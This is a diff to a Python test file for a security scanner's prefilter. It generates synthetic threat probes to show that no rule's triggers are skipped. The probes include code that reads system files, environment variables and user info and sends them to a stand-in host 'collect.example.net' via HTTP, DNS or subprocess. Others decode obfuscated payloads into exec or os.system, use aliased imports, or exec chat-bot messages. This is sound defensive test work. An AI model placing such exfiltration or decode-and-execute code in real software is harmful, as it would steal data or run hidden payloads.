@@ -1,4 +1,4 @@
-"""The package-mode prefilter never hides a threat: every rule's triggers, enumerated.
+"""The prefilter's triggers never hide a threat: every rule's table, enumerated.
 
 A file the prefilter answers "nothing" for is not parsed, and one it answers
 with focus lines is visited only around them (:mod:`caplet._scan._prefilter`
@@ -22,9 +22,11 @@ from caplet._scan._filepass import scan_text
 from caplet._scan._grants import NO_GRANTS
 from caplet._scan._model import ScanMode
 from caplet._scan._prefilter import Need, Prefilter
+from caplet._scan._rules import API_RULES
 from caplet._scan._sources import (
     BOT_FRAMEWORKS,
     DECODERS,
+    DECODING_CODECS,
     DNS_FUNCTIONS,
     EXECUTORS,
     NETWORK_PROGRAMS,
@@ -75,55 +77,94 @@ def _call(api: str, argument: str = "") -> str:
     return f"{api.removeprefix('builtins.')}({argument})"
 
 
+def _aliased(api: str, argument: str = "") -> tuple[str, str]:
+    """(import, call) of ``api`` imported under another name: ``from os import system as
+    run_it``, then ``run_it(...)``."""
+    module, _, name = api.rpartition(".")
+    return f"from {module} import {name} as run_it\n", f"run_it({argument})"
+
+
 _HOST = "str(x) + '.collect.example.net'"
 
 
 _RECON = [
-    *((_module_of(f), _call(f, "0" if f.endswith("getpwuid") else "")) for f in RECON_FUNCTIONS),
-    *(("import os\n", f"os.environ[{n!r}]") for n in RECON_ENV_NAMES),
-    *(("import os\n", f"os.getenv({n!r})") for n in RECON_ENV_NAMES),
-    *(("", f"open({p!r}).read()") for p in RECON_FILES),
+    *(
+        (_module_of(f), _call(f, "0" if f.endswith("getpwuid") else ""))
+        for f in sorted(RECON_FUNCTIONS)
+    ),
+    *(("import os\n", f"os.environ[{n!r}]") for n in sorted(RECON_ENV_NAMES)),
+    *(("import os\n", f"os.getenv({n!r})") for n in sorted(RECON_ENV_NAMES)),
+    *(_aliased(f, "0" if f.endswith("getpwuid") else "") for f in sorted(RECON_FUNCTIONS)),
+    *(("", f"open({p!r}).read()") for p in sorted(RECON_FILES)),
+    *(
+        ("import os\n", f"open(os.path.join('/etc', {p.rsplit('/', 1)[1]!r})).read()")
+        for p in sorted(RECON_FILES)
+    ),
 ]
 _EGRESS = [
     "import requests\nrequests.post('https://collect.example.net/c', data=x)\n",
     "import urllib.request\nurllib.request.urlopen('https://collect.example.net/?' + str(x))\n",
-    *(f"{_module_of(d)}{_call(d, _HOST)}\n" for d in DNS_FUNCTIONS if "()." not in d),
-    *(f"import dns.resolver\n{_call(d, _HOST)}\n" for d in DNS_FUNCTIONS if "()." in d),
+    *(f"{_module_of(d)}{_call(d, _HOST)}\n" for d in sorted(DNS_FUNCTIONS) if "()." not in d),
+    *(f"import dns.resolver\n{_call(d, _HOST)}\n" for d in sorted(DNS_FUNCTIONS) if "()." in d),
     *(
         f"import subprocess\nsubprocess.run([{p!r}, str(x) + '.collect.example.net'])\n"
-        for p in NETWORK_PROGRAMS
+        for p in sorted(NETWORK_PROGRAMS)
     ),
 ]
 
 
+def _probe(imports: str, source: str, egress: str) -> str:
+    head, _, call = egress.partition("\n")
+    return f"{imports}{head}\nx = {source}\n{call}"
+
+
 def _recon_probes() -> list[str]:
-    return [
-        f"{imports}{egress.split(chr(10), 1)[0]}\nx = {source}\n{egress.split(chr(10), 1)[1]}"
-        for imports, source in _RECON
-        for egress in _EGRESS
+    # Each entry once against a partner whose trigger the other probes check: a
+    # missing trigger on either side hides the threat, so every entry is held to
+    # the rule without the product of the tables.
+    imports, source = _RECON[0]
+    return [_probe(i, s, _EGRESS[0]) for i, s in _RECON] + [
+        _probe(imports, source, egress) for egress in _EGRESS
     ]
 
 
 def _decoder_probes() -> list[str]:
     sinks = [
-        *(_call(e, "payload") for e in EXECUTORS if e.startswith("builtins.")),
-        "__import__('os').system(payload)",
-        "import subprocess\nsubprocess.Popen(payload, shell=True)",
+        "exec(payload)",
+        "import os\nos.system(payload)",
+        *(_call(e, "payload") for e in sorted(EXECUTORS) if e.startswith("builtins.")),
+        *(
+            f"{_module_of(api)}{_call(api, 'payload')}"
+            for api, rule_id in sorted(API_RULES.items())
+            if rule_id == "CPL-PROC-001"
+        ),
+        *(
+            "".join(_aliased(api, "payload"))
+            for api, rule_id in sorted(API_RULES.items())
+            if rule_id == "CPL-PROC-001"
+        ),
     ]
-    probes: list[str] = []
-    for decoder in DECODERS:
+
+    def decoded(decoder: str) -> str:
         argument = "blob, 'rot13'" if decoder == "codecs.decode" else "blob"
-        decoded = f"{_module_of(decoder)}payload = {_call(decoder, argument)}\n"
-        probes.extend(decoded + sink + "\n" for sink in sinks)
-    return probes
+        return f"{_module_of(decoder)}payload = {_call(decoder, argument)}\n"
+
+    codecs = [
+        f"import codecs\npayload = codecs.decode(blob, {c!r})\n" for c in sorted(DECODING_CODECS)
+    ]
+    # every decoder into a code sink and a process sink, every sink fed by one decoder
+    each = [decoded(d) for d in sorted(DECODERS)] + codecs
+    return [d + sink + "\n" for d in each for sink in sinks[:2]] + [
+        each[0] + sink + "\n" for sink in sinks
+    ]
 
 
 def _other_probes() -> list[str]:
     install = "['install', 'x']"
-    pips = [f"import pip\nimport pip._internal\n{_call(p, install)}\n" for p in PIP_MAINS]
+    pips = [f"import pip\nimport pip._internal\n{_call(p, install)}\n" for p in sorted(PIP_MAINS)]
     bots = [
         f"import {b}\n@{b}.handler\ndef on(message):\n    exec(message.text)\n"
-        for b in BOT_FRAMEWORKS
+        for b in sorted(BOT_FRAMEWORKS)
     ]
     return pips + bots
 
